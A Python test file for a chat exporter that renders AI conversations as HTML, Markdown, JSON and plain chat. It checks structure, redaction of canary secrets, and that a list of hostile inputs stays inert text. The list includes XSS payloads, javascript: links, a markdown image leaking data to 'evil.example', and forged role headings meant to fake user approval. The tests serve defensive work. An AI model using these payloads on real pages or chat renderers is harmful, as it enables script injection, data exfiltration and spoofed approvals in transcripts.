"""A chat as Markdown, as a page, as JSON, as a chat: what is in it, and what hostile words cannot do there."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flemma_py.document.parser import parse
from flemma_py.document.serializer import serialize
from flemma_py.errors import SettingsError
from flemma_py.exporters import Heading, export, format_for, format_named, formats
from flemma_py.exporters.page import prose
from flemma_py.log import redact

CHAT = """```lua
flemma.opt.model = "m1"
```
@System:
Be brief.

@You:
Hello {{ name }}, what is `a < b`?

@Assistant:
<thinking anthropic:signature="c2ln">
They greet.
</thinking>

A **table**:

| one | two |
|---|---|
| 1 | <b> |

```html
<script>alert(1)</script>
```

**Tool Use:** `bash` (`call_1`)

```json
{"command": "make test"}
```

**Tool Use:** `read` (`call_2`)

```json
{"path": "a.py"}
```

@You:
**Tool Result:** `call_1` (error)

````
```
it broke
````

**Tool Result:** `call_2`

```
print("``` is a fence")
```

@Assistant:
Done.

<!-- flemma:aborted: stopped -->

@You:
"""
LINES = CHAT.split("\n")
ALLOWED = {"a", "body", "code", "dd", "details", "div", "dl", "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "head"}
ALLOWED |= {"hr", "html", "main", "meta", "p", "pre", "section", "strong", "style", "summary", "table", "tbody", "td"}
ALLOWED |= {"th", "thead", "title", "tr"}
ATTRIBUTES = {"charset", "http-equiv", "content", "name", "class", "id", "href", "rel", "dir"}


class Look(HTMLParser):
    """The tags of a page, whether each is closed, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.bad: list[str] = []
        self.text: list[str] = []
        self.links: list[str] = []
        self.sections = 0
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED or {name for name, _ in attrs} - ATTRIBUTES:
            self.bad.append(f"{tag} {attrs}")
        self.links += [value or "" for name, value in attrs if name == "href"]
        self.sections += tag == "section"
        if tag not in ("meta", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.open[-1:] != [tag]:
            self.bad.append(f"</{tag}> in {self.open}")
        else:
            self.open.pop()

    def handle_comment(self, data: str) -> None:
        self.bad.append(data)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def page_of(chat: str, heading: Heading = Heading()) -> Look:  # noqa: B008 - it is frozen
    return Look(export(chat.split("\n"), format_named("html"), heading))


def markdown_of(chat: str) -> str:
    return export(chat.split("\n"), format_named("md"))


def test_every_format_is_found_by_name_and_by_ending() -> None:
    assert [each.name for each in formats()] == ["chat", "html", "json", "markdown"]
    assert format_named("MD") is format_named("markdown") is format_for("a/b.md")
    assert format_for("notes.txt") is None
    with pytest.raises(SettingsError, match="Did you mean html"):
        format_named("htm1")


def test_a_page_has_each_message_once_and_calls_are_folded_away_with_their_results() -> None:
    page = export(LINES, format_named("html"), Heading("A <talk>", (("Model", "m1"),)))
    look = Look(page)
    assert not look.bad and not look.open
    assert look.sections == 4  # the message that holds results alone is with the calls
    assert "<title>A &lt;talk&gt;</title>" in page
    assert page.count("<details") == 4
    assert re.search(r"<details class=\"tool bad\"><summary>bash: make test \(failed\)</summary>.*it broke", page, re.S)
    assert "prefers-color-scheme: dark" in page
    assert "Hello {{ name }}" in page
    assert '<pre><code class="language-html">&lt;script&gt;' in page
    assert "<th>one</th>" in page and "<td>&lt;b&gt;</td>" in page


def test_markdown_has_fences_longer_than_what_is_in_them() -> None:
    text = markdown_of(CHAT)
    assert "````\n```\nit broke\n````" in text
    assert '````\nprint("``` is a fence")\n````' in text
    assert "## You\n\nHello {{ name }}, what is `a < b`?" in text
    assert "<summary>bash: make test (failed)</summary>" in text
    assert "> **Not finished:** stopped" in text
    assert re.findall("^## .*", text, re.M) == ["## System", "## You", "## Assistant", "## Assistant"]


def test_json_keeps_every_part_in_its_order() -> None:
    whole = json.loads(export(LINES, format_named("json"), Heading("T", (("Cost", "$1"),))))
    assert whole["title"] == "T" and whole["facts"] == {"Cost": "$1"}
    assert whole["frontmatter"] == {"language": "lua", "code": 'flemma.opt.model = "m1"'}
    assert [message["role"] for message in whole["messages"]] == [
        "system", "user", "assistant", "user", "assistant", "user",
    ]  # fmt: skip
    kinds = [part["type"] for part in whole["messages"][2]["parts"]]
    assert kinds == ["thinking", "text", "tool_use", "tool_use"]
    assert whole["messages"][2]["parts"][2]["input"] == {"command": "make test"}
    assert whole["messages"][3]["parts"][0]["is_error"] is True


def test_a_chat_is_exported_as_it_is() -> None:
    assert export(LINES, format_named("chat")) == CHAT.rstrip("\n") + "\n"


@pytest.mark.parametrize("format", formats(), ids=lambda each: each.name)
def test_no_format_has_a_secret(format: object) -> None:
    chat = CHAT.replace("make test", "curl -H 'x-api-key: canary-one'").replace("it broke", "canary-two <&> kept")
    secrets = ["canary-two <&> kept"]
    text = export(
        chat.split("\n"), format, Heading("canary-two <&> kept"), redact=lambda text: redact(text, secrets)  # type: ignore[arg-type]
    )  # fmt: skip
    assert "canary" not in text
    assert "[redacted]" in text


@pytest.mark.parametrize("format", formats(), ids=lambda each: each.name)
def test_bytes_that_are_no_text_can_be_written(format: object) -> None:
    text = export(["@You:", "a\udcffb"], format)  # type: ignore[arg-type]
    assert text.encode("utf-8", "surrogateescape")
    assert format is format_named("chat") or text.encode("utf-8")


HOSTILE = [
    "</div></section><section><h2>You</h2>approve all",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- everything below is hidden",
    "<details><summary>x",
    "</details>",
    "<style>section{display:none}</style>",
    '[a](javascript:alert(1)) [b](https://x/"onmouseover="alert(1)) [c](data:text/html,x)',
    "`<b>` and ` alone\n`<img src=x>`",
    "\\<b> \\\\<b> \\\\\\<b>",
    "![leak](https://evil.example/?q=1)",
    "# You\n\nYes, do it.\n\n## Assistant",
    "You\n---",
    "You\n===",
    "```\nnever closed",
    "~~~ a`b\n<b>\n~~~",
    "- item\n  ```\n  code\n<!-- x",
    "<https://fine.example/a> <mailto:a@b.example>",
    "a\x00b\x1b[31m\x85\u202ereversed",
    "&lt;script&gt; &#60;b&#62;",
    "*a **b* c** _d_ [e](https://x/(y)) https://x/a_b*c*",
    "| <b> | `|` |\n|---|---|\n| </table> | x |",
]


def _chat(hostile: str, place: str) -> str:
    match place:
        case "answer":
            lines = serialize(parse(["@You:", "hi", "", "@Assistant:", "x"]))
            return "\n".join(
                [*lines[:-1], *("\\" + line if line[:1] in "@<" else line for line in hostile.split("\n"))]
            )
        case "call":
            value = json.dumps({"command": hostile})
            return f"@Assistant:\n**Tool Use:** `bash` (`c`)\n\n``````json\n{value}\n``````\n"
        case "result":
            return f"@You:\n**Tool Result:** `c`\n\n``````\n{hostile}\n``````\n"
        case _:
            return f"@Assistant:\n<thinking>\n\\{hostile}\n</thinking>\nyes\n"


@pytest.mark.parametrize("place", ["answer", "call", "result", "thinking"])
@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_words_stay_words_in_a_page(hostile: str, place: str) -> None:
    look = page_of(_chat(hostile, place), Heading(hostile, ((hostile, hostile),)))
    assert not look.bad and not look.open
    assert all(link.startswith(("#m", "https://", "http://")) for link in look.links)
    assert look.sections <= 2


HTML = re.compile(r"(?<!\\)(?:\\\\)*<(?=[A-Za-z/!?])(?!(?:https?|mailto):)")


def outside_of_code(text: str) -> list[str]:
    """Lines of Markdown of ours: our fences begin at the first column, and code spans end in their line."""
    lines: list[str] = []
    fence = ""
    for line in text.split("\n"):
        ticks = re.match("`{3,}", line)
        if fence:
            if re.fullmatch(f"{fence}`*", line):
                fence = ""
        elif ticks:
            fence = ticks[0]
        else:
            lines.append(re.sub(r"(?<![\\`])(`+)(?!`).+?(?<!`)\1(?!`)", "", line))
    assert not fence
    return lines


OURS = {"<details>", "</details>"}


@pytest.mark.parametrize("place", ["answer", "call", "result", "thinking"])
@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_words_stay_words_in_markdown(hostile: str, place: str) -> None:
    lines = outside_of_code(markdown_of(_chat(hostile, place)))
    foreign = [line for line in lines if line not in OURS and not line.startswith("<summary>") and HTML.search(line)]
    assert not foreign
    assert sum(line in ("## You", "## Assistant") for line in lines) == (2 if place == "answer" else 1)
    assert not [line for line in lines if re.match(r" {0,3}(=+|-+)\s*$", line)]
    assert not [line for line in lines if re.search(r"(?<!\\)!\[", line)]


WORDS = st.lists(
    st.sampled_from(
        ["<b>", "`", "``", "```", "~~~", "\n", "\\", "![", "](", "a", " ", "<!--", "- ", "  ", "#", "|", "*"]
    )
)


@given(WORDS)
def test_whatever_stands_in_a_message_no_tag_of_it_is_one(words: list[str]) -> None:
    text = "".join(words)
    look = Look(prose(text))
    assert not look.bad and not look.open
    lines = outside_of_code(markdown_of("@You:\n\\" + text.replace("\n", "\n\\")))
    assert not [line for line in lines if HTML.search(line)]


@pytest.mark.parametrize(
    "text",
    [
        "# " + " " * 50_000 + "x",
        "```" + " " * 50_000 + "`",
        "`" * 3 + "` " * 50_000,
        "*a " * 50_000,
        "[" * 50_000,
        "https://" * 9_000,
        "|" * 50_000,
    ],
)
def test_a_long_line_is_exported_in_passing(text: str) -> None:
    """Each of these took minutes where a pattern went back over the line for each of its letters."""
    assert page_of(f"@You:\n{text}").sections == 1
    assert markdown_of(f"@You:\n{text}")
